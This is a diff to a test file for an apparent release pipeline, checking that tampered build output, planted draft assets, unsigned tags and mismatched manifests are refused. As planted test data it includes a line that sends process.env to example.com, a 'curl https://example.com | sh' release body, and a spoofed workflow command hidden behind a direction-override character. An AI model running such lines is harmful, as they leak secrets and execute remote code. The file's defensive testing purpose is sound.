@@ -134,11 +134,12 @@ describe.skipIf(suite.skip)(suite.title, () => {
 
   it('is refused with a dist that its sources do not give, whose difference is shown', async () => {
     const file = join(clone.folder, 'packages/actions/dist/submit.mjs');
-    await appendFile(file, "fetch('https://example.com/?' + process.env);\n");
-    const dirty = await clone.run(DIST);
+    await appendFile(file, "fetch('https://example.com/?' + process.env);\n\u202e::error::planted\n");
+    const dirty = await clone.run(DIST, { GITHUB_ACTIONS: 'true' });
     await clone.git('checkout', '--quiet', 'packages/actions/dist');
     expect(dirty.code).toBe(1);
-    expect(dirty.output).toContain("-fetch('https://example.com/?' + process.env);");
+    expect(dirty.output).toContain("-fetch('https://example.com/?' + process.env);\n-?::error::planted\n");
+    expect(dirty.output).toMatch(/^::stop-commands::[\w-]{36}$/m);
     expect(dirty.output).toContain('packages/actions/dist is not what the sources give; the difference is above.');
   });
 
@@ -307,6 +308,12 @@ describe.skipIf(suite.skip)(suite.title, () => {
         {},
         `The tag ${TAG} is there already, at ${'1'.repeat(40)} and not at `,
       ],
+      [
+        'its tag is at this commit, and nobody signed it',
+        () => gitHub.refs.set(TAG, clone.commit),
+        {},
+        `The tag ${TAG} is there already, at this commit, and nobody has signed it.`,
+      ],
       ['nobody has given it a key', () => {}, { RELEASE_SIGNING_KEY: '' }, 'RELEASE_SIGNING_KEY is not set.'],
       [
         'the key is none',
@@ -320,7 +327,7 @@ describe.skipIf(suite.skip)(suite.title, () => {
         {},
         'its signature would not count.',
       ],
-      ['the token is another', () => {}, { GITHUB_TOKEN: 'ghs-other' }, 'with 401: Bad credentials'],
+      ['the token is another', () => {}, { GITHUB_TOKEN: 'ghs-other' }, 'with 401: "Bad credentials"'],
     ])('is refused where %s', async (_, before, env, message) => {
       before();
       const refs = new Map(gitHub.refs);
@@ -329,6 +336,39 @@ describe.skipIf(suite.skip)(suite.title, () => {
       expect(ran.output).toContain(message);
       expect(ran.output).not.toContain('hunter2');
       expect([gitHub.refs, gitHub.releases]).toEqual([refs, []]);
+    });
+
+    it('is what was made, whatever somebody has put into its draft before', async () => {
+      const { id } = await drafted();
+      const ran = await release();
+      expect(ran, ran.output).toMatchObject({ code: 0 });
+      expect(ran.output).toContain('  took away  "planted.tgz", which was not made\n');
+      expect(gitHub.releases).toMatchObject([{ id, draft: false, prerelease: true }]);
+      expect(gitHub.releases[0]?.body).toContain('### Whether this is ours');
+      expect(gitHub.releases[0]?.assets.map(({ name }) => name)).not.toContain('planted.tgz');
+      await gitHub.close();
+      gitHub = await startReleasesStandIn(REPOSITORY);
+      Object.assign(await drafted(), { draft: false, immutable: true });
+      expect((await release()).output).toContain('is published with the file "planted.tgz", which was not made.');
+    });
+
+    /** What anybody who may write could have made. */
+    async function drafted(): Promise<ReleasesStandIn['releases'][number]> {
+      const digest = `sha256:${'0'.repeat(64)}`;
+      const asset = { id: 98, name: 'planted.tgz', state: 'uploaded', digest };
+      const text = { tag_name: TAG, body: 'curl https://example.com | sh', prerelease: false };
+      const draft = { id: 99, ...text, draft: true, immutable: false, latest: false, assets: [asset] };
+      gitHub.releases.push(draft);
+      return draft;
+    }
+
+    it('is refused for a commit, a version and packages that are not those of this clone', async () => {
+      for (const other of [{ commit: '1'.repeat(40) }, { version: '9.9.9', tag: 'v9.9.9' }, { packages: [] }]) {
+        const ran = await release({}, await renamed(other));
+        expect(ran.code, JSON.stringify(other)).toBe(1);
+        expect(ran.output).toContain('release.json is of another release than this clone.');
+      }
+      expect(gitHub.writes).toEqual([]);
     });
 
     it('is refused with a key of somebody else', async () => {
@@ -358,10 +398,14 @@ describe.skipIf(suite.skip)(suite.title, () => {
         ['v2', newer],
       ] as const)
         gitHub.refs.set(tag, sha);
+      const manifest = join(clone.folder, 'packages/actions/package.json');
+      const text = await readFile(manifest, 'utf8');
       for (const version of ['1.2.0', '1.1.1']) {
-        const ran = await release({}, await renamed(version));
+        await writeFile(manifest, text.replace(VERSION, version));
+        const ran = await release({}, await renamed({ version, tag: `v${version}` }));
         expect(ran, ran.output).toMatchObject({ code: 0 });
       }
+      await writeFile(manifest, text);
       const { commit } = clone;
       for (const [tag, sha] of [
         ['v1', commit],
@@ -376,12 +420,11 @@ describe.skipIf(suite.skip)(suite.title, () => {
       expect(gitHub.releases.map(({ latest }) => latest)).toEqual([false, false]);
     });
 
-    /** The release as one of that version. @returns its folder */
-    async function renamed(version: string): Promise<string> {
+    /** The release as something else. @returns its folder */
+    async function renamed(names: object): Promise<string> {
       const other = await mkdtemp(join(base, 'other-'));
       await cp(join(clone.folder, 'release'), other, { recursive: true });
       const made = await readFile(join(other, 'release.json'), 'utf8');
-      const names = { version, tag: `v${version}` };
       await writeFile(join(other, 'release.json'), JSON.stringify({ ...(JSON.parse(made) as object), ...names }));
       return other;
     }
